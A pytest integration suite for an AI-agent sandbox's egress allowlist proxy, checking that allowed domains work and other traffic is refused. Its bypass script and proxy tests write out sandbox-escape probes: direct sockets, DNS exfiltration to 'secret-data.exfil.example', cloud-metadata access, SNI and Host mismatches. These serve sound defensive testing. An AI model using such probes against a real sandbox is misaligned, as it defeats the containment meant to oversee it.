"""The egress allowlist against the real engine, on runc and on gVisor (runsc-host).

A server container from the base image, on the engine's default bridge,
stands in for every domain: HTTP on 8080, HTTPS on 8443 (a test
certificate for all test names), a tiny package index, and UDP/TCP
listeners (53, 9999) that count what reaches them.  The backend's
``egress_hosts`` mapping points the test names at it; ``refused.test`` is
mapped too, so a refusal is the proxy's decision, not an unreachable name.
Traffic goes only to loopback, the containers made here, and this host.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import ipaddress
import json
import socket
import subprocess
import threading
import time
import urllib.request
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agentnest import MemoryObserver, NetworkPolicy, Sandbox, Secret, SecurityPolicy
from agentnest.approvals import ApprovalRequest
from agentnest.runtime.docker import DockerBackend, DockerSpec, labels
from agentnest.runtime.docker.prune import prune
from agentnest.sandbox import default_image

NAMES = ("files.allowed.test", "www.allowed.test", "refused.test", "private.allowed.test", "allowed.test")
SPEC_RUNTIME = {"docker": "runc", "gvisor": "runsc"}

SERVER = r"""
import base64, http.server, json, os, socket, ssl, threading
FILES = {k: base64.b64decode(v) for k, v in json.loads(os.environ["FILES"]).items()}
for name in ("cert.pem", "key.pem"):
    with open("/tmp/" + name, "wb") as f:
        f.write(FILES.pop("/" + name))
HITS = {"udp9999": 0, "udp53": 0, "tcp53": 0, "tcp9999": 0, "requests": []}
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a):
        pass
    def do_GET(self):
        if self.path == "/stats":
            return self.reply(200, json.dumps(HITS).encode())
        HITS["requests"].append([self.headers.get("Host"), self.path])
        if self.path == "/redirect":
            return self.reply(302, b"", {"Location": "http://refused.test:8080/"})
        path = self.path.split("?")[0]
        body = FILES.get(path)
        kind = "text/html" if path.startswith("/simple/") else "application/octet-stream"
        if body is None:
            body, kind = ("hello " + str(self.headers.get("Host"))).encode(), "text/plain"
        self.reply(200, body, {"Content-Type": kind})
    def reply(self, code, body, headers={}):
        self.send_response(code)
        for k, v in headers.items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
def udp(port, key):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", port))
    while True:
        s.recvfrom(4096); HITS[key] += 1
def tcp(port, key):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(16)
    while True:
        c, _ = s.accept(); HITS[key] += 1; c.close()
for fn, port, key in ((udp, 9999, "udp9999"), (udp, 53, "udp53"), (tcp, 53, "tcp53"), (tcp, 9999, "tcp9999")):
    threading.Thread(target=fn, args=(port, key), daemon=True).start()
tls = S(("0.0.0.0", 8443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain("/tmp/cert.pem", "/tmp/key.pem")
tls.socket = ctx.wrap_socket(tls.socket, server_side=True, do_handshake_on_connect=False)
threading.Thread(target=tls.serve_forever, daemon=True).start()
S(("0.0.0.0", 8080), H).serve_forever()
"""

#: Runs in the sandbox: fetch URLs (through the proxy unless told otherwise) and report.
FETCH = r"""
import json, ssl, sys, urllib.request, urllib.error
urls, direct = json.loads(sys.argv[1]), sys.argv[2] == "direct"
ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
handlers = [urllib.request.HTTPSHandler(context=ctx)]
if direct:
    handlers.append(urllib.request.ProxyHandler({}))  # a tool that ignores the proxy variables
opener = urllib.request.build_opener(*handlers)
out = []
for url in urls:
    try:
        with opener.open(url, timeout=10) as r:
            out.append([r.status, r.read().decode()[:200]])
    except urllib.error.HTTPError as e:
        out.append([e.code, e.headers.get("X-AgentNest-Egress", "")])
        e.close()
    except Exception as e:
        out.append([None, type(e).__name__ + ": " + str(e)[:200]])
print(json.dumps(out))
"""

#: Runs in the sandbox: try every way around the proxy at once; report what got through.
BYPASS = r"""
import errno, json, select, socket, struct, sys, time
targets = json.loads(sys.argv[1])
results, pending = {}, {}
def dns_query(name):
    header = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + q + struct.pack(">HH", 1, 1)
for key, family, kind, host, port, name in targets:
    fam = socket.AF_INET6 if family == 6 else socket.AF_INET
    tcp = kind == "tcp"
    s = socket.socket(fam, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.setblocking(False)
    addr = (host, port, 0, 0) if fam == socket.AF_INET6 else (host, port)
    try:
        if tcp:
            code = s.connect_ex(addr)
            if code not in (0, errno.EINPROGRESS):
                raise OSError(code, errno.errorcode.get(code, "?"))
        else:
            s.sendto(dns_query(name) if name else b"exfiltrate", addr)
        pending[s] = (key, tcp)
    except OSError as e:
        results[key] = "failed: " + (errno.errorcode.get(e.errno or 0) or type(e).__name__)
        s.close()
end = time.monotonic() + 3
while pending and time.monotonic() < end:
    socks = list(pending)
    udp = [s for s in socks if not pending[s][1]]
    readable, writable, _ = select.select(udp, [s for s in socks if pending[s][1]], [], 0.2)
    for s in readable + writable:
        key, tcp = pending.pop(s)
        if tcp:
            code = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            results[key] = "connected" if code == 0 else "failed: " + errno.errorcode.get(code, str(code))
        else:
            try:
                data = s.recv(4096)
                ancount = struct.unpack(">H", data[6:8])[0] if len(data) >= 12 else 0
                verdict = ("answer ancount=%d" % ancount) if ancount else "no-answer"
                results[key] = verdict + " rcode=%d" % (data[3] & 15)
            except OSError as e:
                results[key] = "failed: " + (errno.errorcode.get(e.errno or 0) or type(e).__name__)
        s.close()
for s, (key, _) in pending.items():
    results[key] = "failed: timeout"
    s.close()
try:
    socket.getaddrinfo("files.allowed.test", 80)
    results["getaddrinfo"] = "resolved"
except OSError as e:
    results["getaddrinfo"] = "failed: " + type(e).__name__
print(json.dumps(results))
"""


# -- fixtures ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def certs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("egress-tls")
    san = ",".join(f"DNS:{n}" for n in NAMES)
    subprocess.run(
        [
            *("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"),
            *("-nodes", "-keyout", str(d / "key.pem"), "-out", str(d / "cert.pem"), "-days", "2"),
            *("-subj", "/CN=egress-test", "-addext", f"subjectAltName={san}"),
        ],
        check=True,
        capture_output=True,
    )
    return d


def tiny_wheel() -> tuple[str, bytes]:
    """A pure-Python wheel of ``tinypkg`` 1.0, built by hand."""
    name = "tinypkg-1.0-py3-none-any.whl"
    files = {
        "tinypkg/__init__.py": b"VALUE = 42\n",
        "tinypkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n",
        "tinypkg-1.0.dist-info/WHEEL": (
            b"Wheel-Version: 1.0\nGenerator: agentnest-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    record.append("tinypkg-1.0.dist-info/RECORD,,")
    files["tinypkg-1.0.dist-info/RECORD"] = ("\n".join(record) + "\n").encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for path, data in files.items():
            z.writestr(path, data)
    return name, buf.getvalue()


@pytest.fixture(scope="module")
def server(docker_client: Any, certs: Path) -> Iterator[dict[str, Any]]:
    wheel_name, wheel = tiny_wheel()
    digest = hashlib.sha256(wheel).hexdigest()
    index = f'<html><body><a href="/packages/{wheel_name}#sha256={digest}">{wheel_name}</a></body></html>'
    files = {
        "/cert.pem": (certs / "cert.pem").read_bytes(),
        "/key.pem": (certs / "key.pem").read_bytes(),
        "/simple/tinypkg/": index.encode(),
        f"/packages/{wheel_name}": wheel,
    }
    container = docker_client.containers.run(
        default_image(),
        ["python3", "-c", SERVER],
        detach=True,
        environment={"FILES": json.dumps({k: base64.b64encode(v).decode() for k, v in files.items()})},
        labels={"agentnest-test": "egress-server"},
        network_mode="bridge",
    )
    try:
        container.reload()
        ip = container.attrs["NetworkSettings"]["IPAddress"]
        end = time.monotonic() + 30
        while True:
            try:
                with urllib.request.urlopen(f"http://{ip}:8080/stats", timeout=2) as r:
                    r.read()
                break
            except OSError:
                assert time.monotonic() < end, container.logs()[-2000:]
                time.sleep(0.1)
        gateway = container.attrs["NetworkSettings"]["Gateway"]
        yield {"ip": ip, "gateway": gateway, "container": container}
    finally:
        container.remove(force=True)


def stats(server: dict[str, Any]) -> dict[str, Any]:
    # The host reads the server container's counters directly (never through a sandbox).
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(f"http://{server['ip']}:8080/stats", timeout=5) as r:
        return dict(json.loads(r.read()))


def make_backend(backend_name: str, server: dict[str, Any]) -> DockerBackend:
    names = ("files.allowed.test", "www.allowed.test", "refused.test", "allowed.test")
    hosts = {name: server["ip"] for name in names}
    hosts["private.allowed.test"] = server["gateway"]  # the host's bridge address: private
    hosts["metadata.allowed.test"] = "169.254.169.254"
    spec = DockerSpec(oci_runtime=SPEC_RUNTIME[backend_name], egress_hosts=hosts)
    return DockerBackend(spec, name=backend_name)


def allowlist(server: dict[str, Any]) -> SecurityPolicy:
    return SecurityPolicy(
        network=NetworkPolicy.allowlist(
            domains=["files.allowed.test", "*.allowed.test"], cidrs=[f"{server['ip']}/32"], ports=[8080, 8443]
        )
    )


@pytest.fixture(scope="module")
def backend(backend_name: str, server: dict[str, Any]) -> Iterator[DockerBackend]:
    b = make_backend(backend_name, server)
    yield b
    b.close()


@pytest.fixture(scope="module")
def sandbox(backend: DockerBackend, server: dict[str, Any], certs: Path) -> Iterator[Sandbox]:
    with Sandbox(backend=backend, security_policy=allowlist(server), timeout=900) as sb:
        sb.write_file("ca.pem", (certs / "cert.pem").read_bytes())
        sb.write_file("fetch.py", FETCH)
        sb.write_file("bypass.py", BYPASS)
        yield sb


def events(sb: Sandbox) -> list[dict[str, Any]]:
    return sb.network_log()


def wait_events(sb: Sandbox, count: int, within: float = 10.0) -> list[dict[str, Any]]:
    """Events arrive from the proxy's reader thread: poll until ``count`` more are there."""
    end = time.monotonic() + within
    while len(events(sb)) < count:
        assert time.monotonic() < end, events(sb)
        time.sleep(0.02)
    return events(sb)


def fetch(sb: Sandbox, urls: list[str], *, direct: bool = False) -> list[list[Any]]:
    result = sb.exec(["python3", "fetch.py", json.dumps(urls), "direct" if direct else "proxy"], timeout=120)
    assert result.ok, result.stderr
    return list(json.loads(result.stdout))


def proxy_ip(sb: Sandbox) -> str:
    url = sb.exec_python("import os; print(os.environ['HTTPS_PROXY'])").check().stdout.strip()
    return url.split("//")[1].rsplit(":", 1)[0]


# -- what works ----------------------------------------------------------------------


def test_allowed_domains_work_through_the_proxy(sandbox: Sandbox, server: dict[str, Any]) -> None:
    before = len(events(sandbox))
    out = fetch(
        sandbox,
        [
            "http://files.allowed.test:8080/a",
            "https://files.allowed.test:8443/b",
            "https://www.allowed.test:8443/",
        ],
    )
    assert out == [
        [200, "hello files.allowed.test:8080"],
        [200, "hello files.allowed.test:8443"],
        [200, "hello www.allowed.test:8443"],
    ]
    new = wait_events(sandbox, before + 3)[before:]
    assert [(e["type"], e["host"], e["port"], e["address"]) for e in new] == [
        ("egress.allowed", "files.allowed.test", 8080, server["ip"]),
        ("egress.allowed", "files.allowed.test", 8443, server["ip"]),
        ("egress.allowed", "www.allowed.test", 8443, server["ip"]),
    ]
    assert all(e["bytes_up"] > 0 and e["bytes_down"] > 0 and e["duration"] >= 0 for e in new)
    assert all(e["sandbox"] == sandbox.id for e in new)


def test_connections_are_audit_events_approved_and_redacted(
    backend: DockerBackend, server: dict[str, Any], certs: Path
) -> None:
    secret = "tok-" + "7f3a9c1e5b"
    obs = MemoryObserver()
    asked: list[str] = []

    def approve(request: ApprovalRequest) -> bool:
        asked.append(request.kind)
        return True

    with Sandbox(
        backend=backend,
        security_policy=allowlist(server),
        timeout=300,
        observers=[obs],
        approval_hook=approve,
        environment={"TOKEN": Secret(secret)},
    ) as sb:
        assert asked[0] == "network"  # asked before the sandbox existed
        sb.write_file("fetch.py", FETCH)
        sb.write_file("ca.pem", (certs / "cert.pem").read_bytes())
        # The secret as a host name: refused, and never shown verbatim.
        out = fetch(sb, ["http://files.allowed.test:8080/ok", f"http://{secret}.refused.test:8080/x"])
        assert out[0] == [200, "hello files.allowed.test:8080"] and out[1][0] == 403
        # Sorted by type: a connection is recorded when it ends, so the allowed one
        # may come after the refusal.
        logged = sorted(wait_events(sb, 2), key=lambda e: str(e["type"]))
        assert [e["type"] for e in logged] == ["egress.allowed", "egress.denied"]
        assert all(secret not in json.dumps(e) for e in logged)
        assert "[REDACTED]" in logged[1]["host"]
        egress = sorted(
            (e for e in obs.events if e.type.value.startswith("egress.")), key=lambda e: e.type.value
        )
        assert [(e.type.value, e.actor) for e in egress] == [
            ("egress.allowed", "sandbox"),
            ("egress.denied", "sandbox"),
        ]
        assert egress[0].data["host"] == "files.allowed.test" and egress[0].data["bytes_down"] > 0
        assert secret not in repr(egress[1].data)
    types = [e.type.value for e in obs.events]
    assert types.index("sandbox.destroyed") == len(types) - 1  # no egress event after destroy


def test_pip_install_from_an_allowed_local_index(sandbox: Sandbox) -> None:
    import pip

    pip_dir = Path(str(pip.__file__)).parent
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for path in pip_dir.rglob("*"):
            if path.is_file() and "__pycache__" not in path.parts:
                z.write(path, Path("pip") / path.relative_to(pip_dir))
    sandbox.write_file("pip.zip", buf.getvalue())
    result = sandbox.exec_shell(
        "python3 /workspace/pip.zip/pip install --no-cache-dir --disable-pip-version-check "
        "--target /workspace/site --index-url https://files.allowed.test:8443/simple/ "
        "--cert /workspace/ca.pem tinypkg",
        timeout=240,
    )
    assert result.ok, result.stdout[-2000:] + result.stderr[-2000:]
    check = sandbox.exec_python(
        "import sys; sys.path.insert(0, '/workspace/site'); import tinypkg; print(tinypkg.VALUE)"
    )
    assert check.check().stdout == "42\n"
    hosts = {(e["host"], e["type"]) for e in events(sandbox)}
    assert ("files.allowed.test", "egress.allowed") in hosts


# -- how names and addresses match (0.3.0's rules) ----------------------------------------

#: Runs in the sandbox: HTTPS to an address through the proxy (no SNI, so no name to verify).
TLS_TO_ADDRESS = r"""
import ssl, sys, urllib.request
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
with urllib.request.urlopen(sys.argv[1], context=ctx, timeout=10) as r:
    print(r.status, r.read().decode())
"""


def start(sb: Sandbox, certs: Path) -> None:
    sb.write_file("ca.pem", (certs / "cert.pem").read_bytes())
    sb.write_file("fetch.py", FETCH)


def test_a_listed_name_admits_its_subdomains(
    backend: DockerBackend, server: dict[str, Any], certs: Path
) -> None:
    """0.3.0's rule and the default: ``allowed.test`` admits ``files.allowed.test``."""
    network = NetworkPolicy.allowlist(
        domains=["allowed.test"], cidrs=[f"{server['ip']}/32"], ports=[8080, 8443]
    )
    with Sandbox(backend=backend, security_policy=SecurityPolicy(network=network), timeout=120) as sb:
        start(sb, certs)
        out = fetch(
            sb,
            [
                "http://files.allowed.test:8080/sub",
                "https://www.allowed.test:8443/",
                "http://refused.test:8080/",
            ],
        )
        assert out == [
            [200, "hello files.allowed.test:8080"],
            [200, "hello www.allowed.test:8443"],
            [403, "denied; reason=domain_not_allowed"],
        ]


def test_strict_matching_and_a_listed_address(
    backend: DockerBackend, server: dict[str, Any], certs: Path
) -> None:
    """``subdomains=False`` admits exactly the names listed; a listed IP address is reached
    without ``cidrs``, while names resolving to it and other private addresses are not."""
    ip = server["ip"]
    network = NetworkPolicy.allowlist(domains=["allowed.test", ip], ports=[8080, 8443], subdomains=False)
    before = len(stats(server)["requests"])
    with Sandbox(backend=backend, security_policy=SecurityPolicy(network=network), timeout=120) as sb:
        start(sb, certs)
        out = fetch(
            sb,
            [
                f"http://{ip}:8080/by-address",
                "http://files.allowed.test:8080/",  # below a listed name: not in strict mode
                "https://www.allowed.test:8443/",  # the same through CONNECT
                "http://allowed.test:8080/",  # listed, but resolves to a private address; no cidrs
                # Not listed (and not the sandbox's own 127.0.0.1, which bypasses the proxy).
                "http://127.0.0.2:8080/",
            ],
        )
        assert out[0] == [200, f"hello {ip}:8080"]
        assert out[1] == [403, "denied; reason=domain_not_allowed"]
        assert out[2][0] is None and "403" in out[2][1]
        assert out[3] == [403, "denied; reason=address_refused"]
        assert out[4] == [403, "denied; reason=ip_not_allowed"]
        tls = sb.exec(["python3", "-c", TLS_TO_ADDRESS, f"https://{ip}:8443/tls-by-address"], timeout=60)
        assert tls.check().stdout == f"200 hello {ip}:8443\n"
        logged = wait_events(sb, 6)
        # A connection is recorded when it ends: an allowed one may land after the next refusal.
        assert sorted((e["reason"], e["address"]) for e in logged) == sorted(
            [
                ("allowed", ip),
                ("domain_not_allowed", ""),
                ("domain_not_allowed", ""),
                ("address_refused", ip),
                ("ip_not_allowed", "127.0.0.2"),
                ("allowed", ip),
            ]
        )
    assert [r[1] for r in stats(server)["requests"][before:]] == ["/by-address", "/tls-by-address"]


#: Runs in the sandbox: a service on its own loopback, fetched with the proxy variables set.
LOOPBACK_SERVICE = r"""
import http.server, threading, urllib.request
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=server.serve_forever, daemon=True).start()
for host in ("127.0.0.1", "localhost"):
    with urllib.request.urlopen("http://%s:%d/" % (host, server.server_port), timeout=10) as r:
        print(host, r.read().decode())
"""


def test_the_sandbox_reaches_its_own_loopback_without_the_proxy(sandbox: Sandbox) -> None:
    """``NO_PROXY`` names the sandbox's loopback (as 0.3.0 did): through the proxy it would be refused."""
    assert sandbox.exec_python(LOOPBACK_SERVICE).check().stdout == "127.0.0.1 ok\nlocalhost ok\n"


# -- what is refused -----------------------------------------------------------------


def test_refused_domain_and_redirect_to_it(sandbox: Sandbox, server: dict[str, Any]) -> None:
    before_requests = len(stats(server)["requests"])
    before = len(events(sandbox))
    out = fetch(
        sandbox,
        [
            "http://refused.test:8080/",
            "https://refused.test:8443/",
            "http://files.allowed.test:8080/redirect",
        ],
    )
    assert out[0] == [403, "denied; reason=domain_not_allowed"]
    assert out[1][0] is None and "403" in out[1][1]  # the tunnel was refused
    assert out[2] == [403, "denied; reason=domain_not_allowed"]  # the 302 was followed, then refused
    new = wait_events(sandbox, before + 4)[before:]
    assert [(e["type"], e["host"]) for e in new] == [
        ("egress.denied", "refused.test"),
        ("egress.denied", "refused.test"),
        ("egress.allowed", "files.allowed.test"),
        ("egress.denied", "refused.test"),
    ]
    assert [r[1] for r in stats(server)["requests"][before_requests:]] == ["/redirect"]


def test_allowed_names_that_resolve_to_internal_addresses(sandbox: Sandbox, server: dict[str, Any]) -> None:
    before = len(events(sandbox))
    out = fetch(sandbox, ["http://private.allowed.test:8080/", "http://metadata.allowed.test:8080/"])
    assert [o[0] for o in out] == [403, 403]
    new = wait_events(sandbox, before + 2)[before:]
    assert [(e["reason"], e["address"]) for e in new] == [
        ("address_refused", server["gateway"]),
        ("address_refused", "169.254.169.254"),
    ]


def test_tools_that_ignore_the_proxy_get_nothing(sandbox: Sandbox, server: dict[str, Any]) -> None:
    before = stats(server)
    out = fetch(
        sandbox, ["http://files.allowed.test:8080/", f"http://{server['ip']}:8080/direct"], direct=True
    )
    assert [o[0] for o in out] == [None, None]
    assert "URLError" in out[0][1]
    assert stats(server)["requests"] == before["requests"]


def test_every_bypass_fails(sandbox: Sandbox, server: dict[str, Any]) -> None:
    ip = server["ip"]
    proxy = proxy_ip(sandbox)
    gateway = str(ipaddress.ip_address(proxy) - 1)
    host = HostService()
    try:
        targets = [
            ["direct-tcp", 4, "tcp", ip, 8080, ""],
            ["direct-tcp-9999", 4, "tcp", ip, 9999, ""],
            ["direct-udp", 4, "udp", ip, 9999, ""],
            ["dns-udp-server", 4, "udp", ip, 53, "files.allowed.test"],
            ["dns-tcp-server", 4, "tcp", ip, 53, ""],
            ["dns-embedded-allowed", 4, "udp", "127.0.0.11", 53, "files.allowed.test"],
            ["dns-embedded-exfil", 4, "udp", "127.0.0.11", 53, "secret-data.exfil.example"],
            ["dns-gateway", 4, "udp", gateway, 53, "files.allowed.test"],
            ["dns-proxy", 4, "udp", proxy, 53, "files.allowed.test"],
            ["proxy-other-port", 4, "tcp", proxy, 22, ""],
            ["host-gateway", 4, "tcp", gateway, host.port, ""],
            ["host-docker0", 4, "tcp", server["gateway"], host.port, ""],
            *[[f"host-{a}", 4, "tcp", a, host.port, ""] for a in host_addresses(4)],
            ["ipv6-mapped", 6, "tcp", f"::ffff:{ip}", 8080, ""],
            *[[f"host-{a}", 6, "tcp", a, host.port, ""] for a in host_addresses(6)],
            ["ipv6-udp", 6, "udp", "ff02::1", 9999, ""],
        ]
        result = sandbox.exec(["python3", "bypass.py", json.dumps(targets)], timeout=120)
        assert result.ok, result.stderr
        found = json.loads(result.stdout)
    finally:
        host.close()
    leaks = {k: v for k, v in found.items() if v == "connected" or v.startswith("answer") or v == "resolved"}
    assert leaks == {}, found
    assert set(found) == {t[0] for t in targets} | {"getaddrinfo"}
    hits = stats(server)
    assert (hits["udp9999"], hits["udp53"], hits["tcp53"], hits["tcp9999"]) == (0, 0, 0, 0)
    assert host.accepted == 0


def test_proxy_refuses_bad_requests_from_the_sandbox_and_stays_up(sandbox: Sandbox) -> None:
    script = r"""
import json, os, socket, ssl
proxy = os.environ["HTTPS_PROXY"].split("//")[1]
host, port = proxy.rsplit(":", 1)
def send(payload, tls_name=None):
    s = socket.create_connection((host, int(port)), timeout=10)
    try:
        s.sendall(payload)
        if tls_name is None:
            return s.recv(200).decode("latin-1").split("\r\n")[0]
        reply = s.recv(200)
        ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
        try:
            ctx.wrap_socket(s, server_hostname=tls_name)
            return "tls ok"
        except (ssl.SSLError, OSError) as e:
            return "tls failed"
    finally:
        s.close()
out = [
    send(b"CONNECT files.allowed.test:22 HTTP/1.1\r\n\r\n"),
    send(b"CONNECT nonsense\r\n\r\n"),
    send(b"GET http://files.allowed.test:8080/ HTTP/1.1\r\nHost: refused.test:8080\r\n\r\n"),
    send(b"CONNECT files.allowed.test:8443 HTTP/1.1\r\n\r\n", tls_name="refused.test"),
    send(b"CONNECT files.allowed.test:8443 HTTP/1.1\r\nX: " + b"a" * 20000 + b"\r\n\r\n"),
    send(b"CONNECT files.allowed.test:8443 HTTP/1.1\r\n\r\n", tls_name="files.allowed.test"),
]
print(json.dumps(out))
"""
    before = len(events(sandbox))
    out = json.loads(sandbox.exec_python(script, timeout=60).check().stdout)
    assert out == [
        "HTTP/1.1 403 Forbidden",
        "HTTP/1.1 400 Bad Request",
        "HTTP/1.1 400 Bad Request",
        "tls failed",
        "HTTP/1.1 431 Request Header Fields Too Large",
        "tls ok",
    ]
    new = wait_events(sandbox, before + 6)[before:]
    assert [e["reason"] for e in new[:5]] == [
        "port_not_allowed",
        "bad_request",
        "host_mismatch",
        "sni_mismatch",
        "header_too_large",
    ]


def test_the_sandbox_sees_one_interface_and_no_ipv6(sandbox: Sandbox) -> None:
    probe = r"""
import json, socket
names = sorted(n for _, n in socket.if_nameindex())
try:
    v6 = open("/proc/net/if_inet6").read().split()
except OSError:
    v6 = []
print(json.dumps({"names": names, "v6": v6}))
"""
    found = json.loads(sandbox.exec_python(probe).check().stdout)
    assert found["names"] in (["eth0", "lo"], ["lo", "eth0"])
    # Only loopback, if anything, has an IPv6 address.
    assert all(a in ("00000000000000000000000000000001",) for a in found["v6"][0::6])


# -- lifetime ------------------------------------------------------------------------


def test_destroy_removes_proxy_and_network(
    backend: DockerBackend, server: dict[str, Any], docker_client: Any
) -> None:
    sb = Sandbox(backend=backend, security_policy=allowlist(server), timeout=120)
    selector = {"label": f"{labels.SANDBOX}={sb.id}"}
    roles = sorted(
        c.labels[labels.ROLE]
        for c in docker_client.containers.list(all=True, ignore_removed=True, filters=selector)
    )
    assert roles == ["proxy", "sandbox"]
    proxy = next(
        c
        for c in docker_client.containers.list(filters=selector, ignore_removed=True)
        if c.labels[labels.ROLE] == "proxy"
    )
    host_config = proxy.attrs["HostConfig"]
    assert proxy.attrs["Config"]["User"] == "65532:65532"
    assert host_config["ReadonlyRootfs"] and host_config["CapDrop"] == ["ALL"]
    assert "no-new-privileges:true" in host_config["SecurityOpt"]
    assert host_config["LogConfig"]["Type"] == "none"
    assert host_config["SecurityOpt"] and any(o.startswith("seccomp=") for o in host_config["SecurityOpt"])
    assert proxy.exec_run(["cat", "/proc/sys/net/ipv4/ip_forward"]).output == b"0\n"  # no routing
    nets = docker_client.networks.list(filters=selector)
    assert len(nets) == 1
    attrs = nets[0].attrs
    assert attrs["Internal"] and not attrs["EnableIPv6"]
    assert attrs["Options"]["com.docker.network.bridge.inhibit_ipv4"] == "true"
    sandbox_container = docker_client.containers.get(f"agentnest-{sb.id}")
    assert list(sandbox_container.attrs["NetworkSettings"]["Networks"]) == [nets[0].name]
    fetched = sb.exec_python(
        "import urllib.request\n"
        "print(urllib.request.urlopen('http://files.allowed.test:8080/', timeout=10).status)"
    )
    assert fetched.check().stdout == "200\n"
    wait_events(sb, 1)
    sb.destroy()
    assert docker_client.containers.list(all=True, ignore_removed=True, filters=selector) == []
    assert docker_client.networks.list(filters=selector) == []
    assert [e["host"] for e in events(sb)] == ["files.allowed.test"]  # the log outlives the sandbox


def test_proxy_stops_at_the_deadline_and_prune_reaps_it(
    backend: DockerBackend, server: dict[str, Any], docker_client: Any
) -> None:
    from agentnest.config import SandboxConfig

    config = SandboxConfig(image=default_image(), lifetime=3, network=allowlist(server).network)
    handle = backend.create(config)  # as if the host process crashed: nobody destroys it
    selector = {"label": f"{labels.SANDBOX}={handle.id}"}
    try:
        end = time.monotonic() + 30
        while any(
            c.status == "running"
            for c in docker_client.containers.list(all=True, ignore_removed=True, filters=selector)
        ):
            assert time.monotonic() < end, "the proxy or sandbox outlived its deadline"
            time.sleep(0.1)
        report = prune(backend.api, sandbox=handle.id)
        assert sorted(r.kind for r in report.resources) == ["container", "container", "network"]
        assert docker_client.containers.list(all=True, ignore_removed=True, filters=selector) == []
        assert docker_client.networks.list(filters=selector) == []
    finally:
        with contextlib.suppress(Exception):
            backend.destroy(handle)


def test_two_sandboxes_do_not_share_a_network(backend: DockerBackend, server: dict[str, Any]) -> None:
    with (
        Sandbox(backend=backend, security_policy=allowlist(server), timeout=120) as a,
        Sandbox(backend=backend, security_policy=allowlist(server), timeout=120) as b,
    ):
        pa, pb = proxy_ip(a), proxy_ip(b)
        assert pa != pb
        probe = (
            "import socket\ns = socket.socket()\ns.settimeout(2)\n"
            f"try:\n    s.connect(({pb!r}, 3128))\n    print('connected')\n"
            "except OSError:\n    print('failed')"
        )
        assert a.exec_python(probe).check().stdout == "failed\n"


# -- helpers -------------------------------------------------------------------------


class HostService:
    """A TCP service on this host, on all interfaces; counts what connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(16)
        self.sock6 = socket.socket(socket.AF_INET6)
        self.sock6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        self.port = int(self.sock.getsockname()[1])
        self.sock6.bind(("::", self.port))
        self.sock6.listen(16)
        self.accepted = 0
        self._threads = [
            threading.Thread(target=self._serve, args=(s,), daemon=True) for s in (self.sock, self.sock6)
        ]
        for t in self._threads:
            t.start()

    def _serve(self, sock: socket.socket) -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        for s in (self.sock, self.sock6):
            with contextlib.suppress(OSError):
                s.shutdown(socket.SHUT_RDWR)
            s.close()
        for t in self._threads:
            t.join(5)


def host_addresses(version: int) -> list[str]:
    """This host's own addresses (not loopback, not link-local)."""
    out = subprocess.run(
        ["ip", f"-{version}", "-o", "addr", "show"], capture_output=True, text=True, check=True
    ).stdout
    found = []
    for row in out.splitlines():
        parts = row.split()
        kind = "inet" if version == 4 else "inet6"
        address = ipaddress.ip_address(parts[parts.index(kind) + 1].split("/")[0])
        if not (address.is_loopback or address.is_link_local):
            found.append(str(address))
    return found
